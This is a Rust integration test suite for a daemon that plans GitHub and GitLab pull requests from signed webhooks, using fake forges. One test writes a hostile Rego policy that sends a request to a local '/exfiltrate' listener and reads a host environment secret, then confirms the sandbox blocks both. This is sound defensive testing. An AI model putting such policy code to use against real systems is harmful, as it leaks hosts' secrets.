//! The daemon plans pull requests itself (no CI): a signed GitHub `pull_request` or GitLab
//! `Merge Request Hook` delivery makes `gitward run` fetch the pull request's head from the
//! tracked remote's own ref for it, plan it against the commit in force and post the status
//! and the one comment; a policy in the pull request reaches neither the network nor the
//! host; and a merged commit gets its `gitward/apply` status. The repository is real and
//! followed over `file://`; the forges are stand-ins on a runtime of their own.

use crate::common;
use crate::fakes::github as github_fake;
use crate::fakes::gitlab as gitlab_fake;

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use base64::Engine;
use serde_json::Value;

use common::host::{Host, ISSUERS, certificate};
use common::peers::{Daemon, free_port, http, signed_with};

const SECRET: &str = "webhook-secret-for-pull-requests";
/// A variable of the daemon's environment a hostile policy would like to read.
const HOST_SECRET: &str = "hunter2-host-only";

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("a runtime")
}

/// A host following its repository over `file://`, listening on `port`, its forge `forge`.
fn host(port: u16, forge: &str, api: &str, repository: &str, token: &str) -> Host {
    let a = certificate("a", "  dnsNames: [a.example.com]\n");
    let host = Host::new(&[("issuers.yaml", ISSUERS), ("a.yaml", &a)]);
    host.config(&format!(
        "listen: 127.0.0.1:{port}\nwebhooks: {{github: {{secretFile: hook-secret}}, gitlab: {{tokenFile: hook-secret}}}}\nendpoints:\n  forge-api: {{url: \"{api}\", tokenFile: forge-token, timeout: 5s}}\nforge: {{type: {forge}, endpoint: forge-api, repository: \"{repository}\"}}\n"
    ));
    host.follow(&format!("file://{}", host.repo.path().display()));
    std::fs::write(host.dir.path().join("hook-secret"), SECRET).expect("secret");
    std::fs::write(host.dir.path().join("forge-token"), format!("{token}\n")).expect("token");
    host
}

fn start(host: &Host, port: u16) -> Daemon {
    let mut daemon = Daemon::spawn(
        env!("CARGO_BIN_EXE_gitward"),
        &["run", "--config", "gitward.yaml", "--log-format", "json"],
        host.dir.path(),
        &[("GITWARD_HOST_SECRET", HOST_SECRET)],
    );
    daemon.wait_for(port);
    daemon.wait_until("the daemon becomes ready", || {
        http(port, "/readyz", None).0 == 200
    });
    daemon
}

/// A branch `name` off main with `files`, published as pull request `number` under `pull_ref`
/// (the ref the forge keeps); returns its head.
fn pull_request(host: &Host, name: &str, files: &[(&str, &str)], pull_ref: &str) -> String {
    host.repo.git(&["checkout", "-q", "-b", name, "main"]);
    for (path, text) in files {
        host.repo.write(path, text);
    }
    let head = host.repo.commit(&format!("Change on {name}"));
    host.repo.git(&["update-ref", pull_ref, &head]);
    host.repo.git(&["checkout", "-q", "main"]);
    head
}

/// The captured GitHub `pull_request` delivery, made about pull request `number` at `head`
/// into `base`, signed with the host's secret.
fn github_delivery(
    number: u64,
    head: &str,
    base: &str,
    action: &str,
) -> (String, Vec<(String, String)>) {
    let captured: Value = serde_json::from_str(include_str!(
        "fixtures/webhooks/github/pull_request.opened.delivery.json"
    ))
    .expect("the captured delivery");
    let raw = base64::engine::general_purpose::STANDARD
        .decode(captured["body_raw_base64"].as_str().expect("a body"))
        .expect("base64");
    let mut body: Value = serde_json::from_slice(&raw).expect("a payload");
    body["action"] = action.into();
    body["number"] = number.into();
    body["pull_request"]["number"] = number.into();
    body["pull_request"]["head"]["sha"] = head.into();
    body["pull_request"]["base"]["ref"] = base.into();
    let body = body.to_string();
    let headers = vec![
        ("Content-Type".to_owned(), "application/json".to_owned()),
        ("X-GitHub-Event".to_owned(), "pull_request".to_owned()),
        (
            "X-GitHub-Delivery".to_owned(),
            format!("delivery-{number}-{head}"),
        ),
        (
            "X-Hub-Signature-256".to_owned(),
            signed_with(SECRET.as_bytes(), body.as_bytes()),
        ),
    ];
    (body, headers)
}

fn deliver(
    port: u16,
    provider: &str,
    (body, headers): &(String, Vec<(String, String)>),
) -> (u16, String) {
    let headers: Vec<(&str, &str)> = headers
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    http(
        port,
        &format!("/hooks/{provider}"),
        Some((body.as_bytes(), &headers)),
    )
}

#[test]
fn a_pull_request_delivery_is_planned_and_posted_without_ci() {
    let rt = runtime();
    let github = rt.block_on(github_fake::GitHub::start());
    let port = free_port();
    let host = host(
        port,
        "github",
        &github.api_url(),
        "acme/pki",
        github_fake::TOKEN,
    );
    let mut daemon = start(&host, port);
    let b = certificate("b", "  dnsNames: [b.example.com]\n");
    let head = pull_request(&host, "add-b", &[("b.yaml", &b)], "refs/pull/7/head");

    let (code, text) = deliver(port, "github", &github_delivery(7, &head, "main", "opened"));
    assert_eq!((code, text.as_str()), (202, "pull request plan queued\n"));
    daemon.wait_until("the plan is posted", || {
        !github.state().comments_on(7).is_empty()
    });
    {
        let forge = github.state();
        let statuses = forge.statuses_of(&head, "gitward/plan");
        assert_eq!(statuses.len(), 1, "{}", daemon.log());
        assert_eq!(statuses[0]["state"], "success");
        assert_eq!(
            statuses[0]["description"],
            "would apply: 1 to issue, 0 to reissue, 0 to remove"
        );
        assert!(forge.comments_on(7)[0].body.contains("Certificate/b"));
        assert_eq!(forge.violations, Vec::<String>::new());
    }

    // Another branch, a delivery for it into another branch, and an action that changes
    // nothing: ignored.
    let (code, text) = deliver(
        port,
        "github",
        &github_delivery(8, &head, "release", "opened"),
    );
    assert_eq!(
        (code, text.as_str()),
        (202, "ignored: a pull request into `release`, not `main`\n")
    );
    let (code, _) = deliver(
        port,
        "github",
        &github_delivery(7, &head, "main", "labeled"),
    );
    assert_eq!(code, 202);

    // The merge is applied: its commit gets `gitward/apply`.
    host.repo.git(&[
        "merge",
        "-q",
        "--no-ff",
        "-m",
        "Merge pull request #7",
        "add-b",
    ]);
    let merge = host.repo.git(&["rev-parse", "HEAD"]);
    daemon.signal(nix::sys::signal::Signal::SIGHUP);
    daemon.wait_until("the merge gets its apply status", || {
        !github
            .state()
            .statuses_of(&merge, "gitward/apply")
            .is_empty()
    });
    let forge = github.state();
    let apply = forge.statuses_of(&merge, "gitward/apply");
    assert_eq!(apply[0]["state"], "success", "{}", daemon.log());
    assert_eq!(apply[0]["description"], "applied");
    assert!(host.out("b").join("cert.pem").exists());
    drop(forge);
    daemon.terminate();
}

#[test]
fn a_policy_in_a_pull_request_reaches_neither_the_network_nor_the_host() {
    let rt = runtime();
    let github = rt.block_on(github_fake::GitHub::start());
    // Where the hostile policy would call: a listener that counts connections.
    let listener = TcpListener::bind("127.0.0.1:0").expect("a listener");
    let target = listener.local_addr().expect("its address");
    listener.set_nonblocking(true).expect("non-blocking");
    let connections = Arc::new(AtomicUsize::new(0));
    let counted = connections.clone();
    std::thread::spawn(move || {
        loop {
            if listener.accept().is_ok() {
                counted.fetch_add(1, Ordering::SeqCst);
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    });
    let port = free_port();
    let host = host(
        port,
        "github",
        &github.api_url(),
        "acme/pki",
        github_fake::TOKEN,
    );
    let mut daemon = start(&host, port);
    let policy = "apiVersion: gitward/v1\nkind: Policy\nmetadata: {name: outbound}\nspec:\n  module: outbound.rego\n  rule: data.gitward.outbound.deny\n  appliesTo: {kinds: [Certificate]}\n  enforcement: deny\n  severity: high\n";
    let rego = format!(
        "package gitward.outbound\n\nimport rego.v1\n\ndeny contains msg if {{\n\tresponse := http.send({{\"method\": \"get\", \"url\": \"http://{target}/exfiltrate\"}})\n\tmsg := sprintf(\"%v\", [response])\n}}\n\ndeny contains msg if {{\n\tmsg := opa.runtime().env.GITWARD_HOST_SECRET\n}}"
    );
    let head = pull_request(
        &host,
        "hostile",
        &[("outbound.yaml", policy), ("outbound.rego", &rego)],
        "refs/pull/9/head",
    );
    let (code, _) = deliver(
        port,
        "github",
        &github_delivery(9, &head, "main", "synchronize"),
    );
    assert_eq!(code, 202);
    daemon.wait_until("the plan is posted", || {
        !github.state().comments_on(9).is_empty()
    });
    let forge = github.state();
    let status = &forge.statuses_of(&head, "gitward/plan")[0];
    assert_eq!(status["state"], "failure", "{}", daemon.log());
    let comment = &forge.comments_on(9)[0].body;
    assert!(
        comment.contains("`http.send` is not allowed in gitward policies"),
        "{comment}"
    );
    assert!(
        comment.contains("`opa.runtime` is not allowed in gitward policies"),
        "{comment}"
    );
    assert!(!comment.contains(HOST_SECRET));
    assert!(!daemon.log().contains(HOST_SECRET));
    assert_eq!(connections.load(Ordering::SeqCst), 0);
    drop(forge);

    // A policy that runs sees the resource, the commit and the inventory — nothing of the
    // host's environment.
    let probe = policy
        .replace("outbound", "probe")
        .replace("enforcement: deny", "enforcement: warn");
    let rego = format!(
        "package gitward.probe\n\nimport rego.v1\n\ndeny contains \"the host's secret is readable\" if {{\n\tseen := sprintf(\"%v %v\", [input, data])\n\tcontains(seen, \"{HOST_SECRET}\")\n}}\n\ndeny contains \"the policy ran\" if input.name == \"a\"\n"
    );
    let head = pull_request(
        &host,
        "probe",
        &[("probe.yaml", &probe), ("probe.rego", &rego)],
        "refs/pull/10/head",
    );
    let (code, _) = deliver(
        port,
        "github",
        &github_delivery(10, &head, "main", "opened"),
    );
    assert_eq!(code, 202);
    daemon.wait_until("the plan is posted", || {
        !github.state().comments_on(10).is_empty()
    });
    let comment = github.state().comments_on(10)[0].body.clone();
    assert!(comment.contains("the policy ran"), "{comment}");
    assert!(!comment.contains("readable"), "{comment}");
    daemon.terminate();
}

#[test]
fn a_gitlab_merge_request_hook_is_planned_from_the_merge_request_ref() {
    let rt = runtime();
    let gitlab = rt.block_on(gitlab_fake::GitLab::start());
    let port = free_port();
    let host = host(
        port,
        "gitlab",
        &gitlab.api_url(),
        gitlab_fake::PROJECT_PATH,
        gitlab_fake::TOKEN,
    );
    let mut daemon = start(&host, port);
    let b = certificate("b", "  dnsNames: [b.example.com]\n");
    let head = pull_request(
        &host,
        "add-b",
        &[("b.yaml", &b)],
        "refs/merge-requests/4/head",
    );
    let captured: Value = serde_json::from_str(include_str!(
        "fixtures/webhooks/gitlab/merge_request.opened.delivery.json"
    ))
    .expect("the captured delivery");
    let raw = base64::engine::general_purpose::STANDARD
        .decode(captured["body_raw_base64"].as_str().expect("a body"))
        .expect("base64");
    let mut body: Value = serde_json::from_slice(&raw).expect("a payload");
    body["object_attributes"]["iid"] = 4.into();
    body["object_attributes"]["last_commit"]["id"] = head.clone().into();
    body["object_attributes"]["target_branch"] = "main".into();
    let delivery = (
        body.to_string(),
        vec![
            ("Content-Type".to_owned(), "application/json".to_owned()),
            ("X-Gitlab-Event".to_owned(), "Merge Request Hook".to_owned()),
            ("X-Gitlab-Token".to_owned(), SECRET.to_owned()),
        ],
    );
    let (code, text) = deliver(port, "gitlab", &delivery);
    assert_eq!((code, text.as_str()), (202, "pull request plan queued\n"));
    daemon.wait_until("the plan is noted", || {
        !gitlab.state().notes_on(4).is_empty()
    });
    let forge = gitlab.state();
    assert_eq!(
        forge
            .status_of(&head, "gitward/plan")
            .map(|s| s["status"].clone()),
        Some("success".into())
    );
    assert!(forge.notes_on(4)[0].body.contains("Certificate/b"));
    assert_eq!(forge.violations, Vec::<String>::new());
    drop(forge);
    daemon.terminate();
}
